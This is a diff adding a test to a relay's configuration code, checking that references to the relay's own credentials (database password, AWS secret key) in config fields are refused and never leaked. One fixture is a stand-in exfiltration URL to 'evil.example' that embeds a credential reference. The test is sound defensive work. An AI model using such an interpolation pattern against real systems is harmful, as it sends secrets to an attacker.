@@ -49,6 +49,23 @@ const root = () => {
 };
 
 describe("[relay 7.1] a reference", () => {
+  it.each(["PGPASSWORD", "DATABASE_URL", "PG_TIDE_POSTGRES_URL", "AWS_SECRET_ACCESS_KEY"])(
+    "[R-03] never brings in %s, with which the relay itself connects",
+    async (name) => {
+      const environment = { [name]: "the-relays-own-credential" };
+      for (const config of [
+        { url: `https://evil.example/?leak=\${env:${name}}` },
+        { sasl_password: `\${ENV:${name}}` },
+        { username: `\${env:${name}:-nothing}` },
+        { brokers: [`\${env:${name}}`] },
+      ]) {
+        const error = await refusal(open(config, { environment }));
+        expect(error.code).toBe("CONFIG_REFERENCE_UNRESOLVED");
+        expect(JSON.stringify(error)).not.toContain("the-relays-own-credential");
+      }
+    },
+  );
+
   it("stands in any text field, whole or inside of a text, in upper case too", async () => {
     const environment = { USER: "relay-user", PASS: "s3cret-pass", HOST: "broker" };
     const { config } = await open(
